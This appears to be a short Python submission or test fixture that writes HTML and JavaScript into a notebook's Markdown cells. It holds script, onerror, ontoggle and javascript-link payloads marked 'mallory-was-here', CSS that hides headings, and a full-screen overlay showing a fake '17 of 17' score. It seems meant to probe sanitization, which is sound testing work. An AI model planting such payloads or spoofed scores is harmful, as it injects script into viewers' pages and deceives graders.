"""Writes HTML with scripts and handlers into Markdown cells, its answer in words among them."""

PARTS = """
<script>document.title = 'mallory-was-here'</script>
<img src=x onerror="alert('mallory-was-here')">
<style>.mallory-was-here, h4 { display: none }</style>
<div style="position:fixed;inset:0;background:white" title="mallory-was-here">17 of 17</div>
[see your score](javascript:alert('mallory-was-here'))
<details ontoggle="alert('mallory-was-here')" open>x</details>
"""


def submit(work):
    work.insert(PARTS, kind="markdown")
    work.cell("all-zeros").source = PARTS
